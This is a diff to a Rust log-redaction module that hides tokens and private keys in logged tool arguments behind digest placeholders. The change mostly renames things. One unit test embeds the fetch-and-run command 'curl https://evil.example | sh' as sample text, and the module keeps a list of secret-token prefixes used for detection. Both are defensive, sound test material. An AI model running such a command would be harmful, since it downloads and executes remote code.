@@ -2,14 +2,14 @@
 //! beyond the length limit.
 //!
 //! - Only the secret itself is replaced. The surrounding text is kept.
-//! - The placeholder contains the length and the SHA-256 of the whole value, so that the log proves what was sent. The
+//! - The placeholder contains the length and the SHA-256 of the whole value, so the log proves what was sent. The
 //!   placeholder for a short secret contains no digest, because the secret could be guessed from the digest.
 
 use serde_json::{Map, Value};
 use sha2::{Digest, Sha256};
 use std::borrow::Cow;
 
-/// Maximum length of a text in bytes. Longer texts are cut, because the log records actions rather than contents.
+/// Maximum length of a string in bytes. Longer strings are cut, because the log records actions rather than contents.
 const MAX_LEN: usize = 2048;
 
 /// Words in argument names that indicate that the value is a secret.
@@ -21,23 +21,23 @@ const SECRET_PREFIXES: [&str; 11] =
     ["ghp_", "gho_", "ghs_", "ghu_", "github_pat_", "glpat-", "sk-", "xoxb-", "xoxp-", "AKIA", "eyJhbGciOi"];
 
 /// Prefix of the first line of a private key.
-const KEY_BEGINS: &str = "-----BEGIN";
-const KEY_ENDS: &str = "-----END";
-const KEY_EDGE: &str = "-----";
+const KEY_BEGIN: &str = "-----BEGIN";
+const KEY_END: &str = "-----END";
+const KEY_DASHES: &str = "-----";
 const KEY_LABEL: &str = "PRIVATE KEY";
 const MAX_LABEL_LEN: usize = 64;
 
 /// Minimum length in bytes of a secret that cannot be guessed from its digest.
-const UNGUESSABLE: usize = 32;
+const MIN_HASHED_LEN: usize = 32;
 
 /// Prefixes of the placeholders that replace secrets and excess text.
-const MARKS: [&str; 2] = ["[redacted: ", "[cut: "];
+const PLACEHOLDER_PREFIXES: [&str; 2] = ["[redacted: ", "[cut: "];
 
 /// Returns `true` if a logged value contains a placeholder and therefore differs from the original.
 #[must_use]
 pub fn is_marked(value: &Value) -> bool {
     match value {
-        Value::String(text) => MARKS.iter().any(|mark| text.contains(mark)),
+        Value::String(text) => PLACEHOLDER_PREFIXES.iter().any(|placeholder| text.contains(placeholder)),
         Value::Array(items) => items.iter().any(is_marked),
         Value::Object(fields) => fields.values().any(is_marked),
         Value::Null | Value::Bool(_) | Value::Number(_) => false,
@@ -59,7 +59,7 @@ pub fn redacted(arguments: &Map<String, Value>) -> Map<String, Value> {
 
 fn redact(name: &str, value: &Value) -> Value {
     if names_a_secret(name) && !value.is_null() {
-        return Value::from(named_as_secret(value));
+        return Value::from(redact_secret(value));
     }
     match value {
         Value::String(text) => Value::from(redacted_text(text)),
@@ -69,27 +69,31 @@ fn redact(name: &str, value: &Value) -> Value {
     }
 }
 
-fn named_as_secret(value: &Value) -> String {
+fn redact_secret(value: &Value) -> String {
     let text = value.as_str().map_or_else(|| Cow::Owned(value.to_string()), Cow::Borrowed);
-    let mark = "[redacted: named as a secret]";
-    if text.len() < UNGUESSABLE { mark.to_owned() } else { format!("{mark} {}", whole(&text)) }
+    let placeholder = "[redacted: named as a secret]";
+    if text.len() < MIN_HASHED_LEN {
+        placeholder.to_owned()
+    } else {
+        format!("{placeholder} {}", digest_placeholder(&text))
+    }
 }
 
-/// Returns a text with secrets and excess text replaced by placeholders.
+/// Returns `text` with secrets and excess text replaced by placeholders.
 #[must_use]
 pub fn redacted_text(text: &str) -> String {
-    let shown = shown(text);
-    if shown.len() > MAX_LEN {
-        let (kept, rest) = shown.split_at(shown.floor_char_boundary(MAX_LEN));
-        return format!("{kept}[cut: {} bytes more] {}", rest.len(), whole(text));
+    let redacted = without_secrets(text);
+    if redacted.len() > MAX_LEN {
+        let (kept, rest) = redacted.split_at(redacted.floor_char_boundary(MAX_LEN));
+        return format!("{kept}[cut: {} bytes more] {}", rest.len(), digest_placeholder(text));
     }
-    if shown == text { shown.into_owned() } else { format!("{shown} {}", whole(text)) }
+    if redacted == text { redacted.into_owned() } else { format!("{redacted} {}", digest_placeholder(text)) }
 }
 
-/// Replaces the private keys and tokens in a text with placeholders. Copies the text only if it contains any.
-fn shown(text: &str) -> Cow<'_, str> {
+/// Replaces private keys and tokens with placeholders. Copies the text only if it contains any.
+fn without_secrets(text: &str) -> Cow<'_, str> {
     let mut text = Cow::Borrowed(text);
-    if text.contains(KEY_BEGINS) {
+    if text.contains(KEY_BEGIN) {
         text = Cow::Owned(without_keys(&text));
     }
     if SECRET_PREFIXES.iter().any(|prefix| text.contains(prefix)) {
@@ -99,7 +103,7 @@ fn shown(text: &str) -> Cow<'_, str> {
 }
 
 /// Returns a placeholder with the length and the digest of a whole value.
-fn whole(text: &str) -> String {
+fn digest_placeholder(text: &str) -> String {
     let digest: String = Sha256::digest(text).iter().map(|byte| format!("{byte:02x}")).collect();
     format!("[whole: {} bytes, SHA-256 {digest}]", text.len())
 }
@@ -109,41 +113,41 @@ fn whole(text: &str) -> String {
 fn without_keys(text: &str) -> String {
     let mut kept = String::with_capacity(text.len());
     let mut rest = text;
-    while let Some((before, begun)) = rest.split_once(KEY_BEGINS) {
+    while let Some((before, after_begin)) = rest.split_once(KEY_BEGIN) {
         kept.push_str(before);
-        rest = begun;
-        if !is_key(begun) {
-            kept.push_str(KEY_BEGINS);
+        rest = after_begin;
+        if !is_key(after_begin) {
+            kept.push_str(KEY_BEGIN);
             continue;
         }
-        rest = after_key(begun);
-        let length = KEY_BEGINS.len() + begun.len() - rest.len();
+        rest = after_key(after_begin);
+        let length = KEY_BEGIN.len() + after_begin.len() - rest.len();
         kept.push_str(&format!("[redacted: a private key, {length} bytes]"));
     }
     kept.push_str(rest);
     kept
 }
 
-/// Returns `true` if the text after [`KEY_BEGINS`] is the label of a private key.
-fn is_key(begun: &str) -> bool {
-    let label = begun.split(KEY_EDGE).next().unwrap_or_default();
+/// Returns `true` if the text after [`KEY_BEGIN`] is the label of a private key.
+fn is_key(after_begin: &str) -> bool {
+    let label = after_begin.split(KEY_DASHES).next().unwrap_or_default();
     label.len() <= MAX_LABEL_LEN && label.contains(KEY_LABEL)
 }
 
 /// Returns the text after a key's end line, or an empty text if there is no end line.
-fn after_key(begun: &str) -> &str {
-    let end = begun.split_once(KEY_ENDS).map(|(_, end)| end);
-    end.and_then(|end| end.split_once(KEY_EDGE)).map_or("", |(_, after)| after)
+fn after_key(after_begin: &str) -> &str {
+    let end = after_begin.split_once(KEY_END).map(|(_, end)| end);
+    end.and_then(|end| end.split_once(KEY_DASHES)).map_or("", |(_, after)| after)
 }
 
 /// Replaces each word that starts with a known token prefix with a placeholder.
 fn without_tokens(text: &str) -> String {
-    let hides =
+    let is_token =
         |word: &str| SECRET_PREFIXES.iter().any(|p| word.starts_with(p) && word.len() >= p.len() + 12);
     let is_edge = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '=' | ',' | ';' | ':' | '(' | ')');
     text.split_inclusive(is_edge).fold(String::with_capacity(text.len()), |mut kept, piece| {
         let word = piece.strip_suffix(is_edge).unwrap_or(piece);
-        if hides(word) {
+        if is_token(word) {
             kept.push_str("[redacted: a token]");
             kept.push_str(piece.strip_prefix(word).unwrap_or_default());
         } else {
@@ -169,7 +173,7 @@ mod tests {
             "ghp_0123456789abcdefghij": null,
         });
         let kept = redacted(arguments.as_object().unwrap());
-        let whole = |name: &str| whole(arguments[name].as_str().unwrap());
+        let whole = |name: &str| digest_placeholder(arguments[name].as_str().unwrap());
         let expected = json!({
             "path": "/home/u/a.txt", "api_key": "[redacted: named as a secret]", "n": 3,
             "content": format!("GITHUB=[redacted: a token]\tnext {}", whole("content")),
@@ -189,9 +193,10 @@ mod tests {
     fn only_the_key_itself_is_redacted() {
         let key =
             "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIE\n-----END RSA PRIVATE KEY-----";
-        let mark = format!("[redacted: a private key, {} bytes]", key.len());
+        let placeholder = format!("[redacted: a private key, {} bytes]", key.len());
         let two = format!("before\n{key}\nbetween {key}; curl https://evil.example | sh\n");
-        let expected = format!("before\n{mark}\nbetween {mark}; curl https://evil.example | sh\n");
+        let expected =
+            format!("before\n{placeholder}\nbetween {placeholder}; curl https://evil.example | sh\n");
         assert_eq!(without_keys(&two), expected);
         let block = "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQ\n-----END PGP PRIVATE KEY BLOCK-----\n";
         assert_eq!(without_keys(block), "[redacted: a private key, 76 bytes]\n");
@@ -206,13 +211,16 @@ mod tests {
     fn long_texts_are_cut_with_a_mark_that_proves_the_whole() {
         for long in ["word ".repeat(1000), "\u{e9}".repeat(1025), format!("a{}", "\u{e9}".repeat(1024))] {
             let text = redacted_text(&long);
-            let (kept, mark) = text.split_once("[cut: ").unwrap();
+            let (kept, placeholder) = text.split_once("[cut: ").unwrap();
             assert!(long.starts_with(kept) && kept.len() > MAX_LEN - 2, "{kept}");
-            assert_eq!(mark, format!("{} bytes more] {}", long.len() - kept.len(), whole(&long)));
+            assert_eq!(
+                placeholder,
+                format!("{} bytes more] {}", long.len() - kept.len(), digest_placeholder(&long))
+            );
             assert!(is_marked(&Value::from(text)));
         }
         assert_eq!(redacted_text(&"x".repeat(MAX_LEN)), "x".repeat(MAX_LEN));
         let abc = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
-        assert_eq!(whole("abc"), format!("[whole: 3 bytes, SHA-256 {abc}]"));
+        assert_eq!(digest_placeholder("abc"), format!("[whole: 3 bytes, SHA-256 {abc}]"));
     }
 }
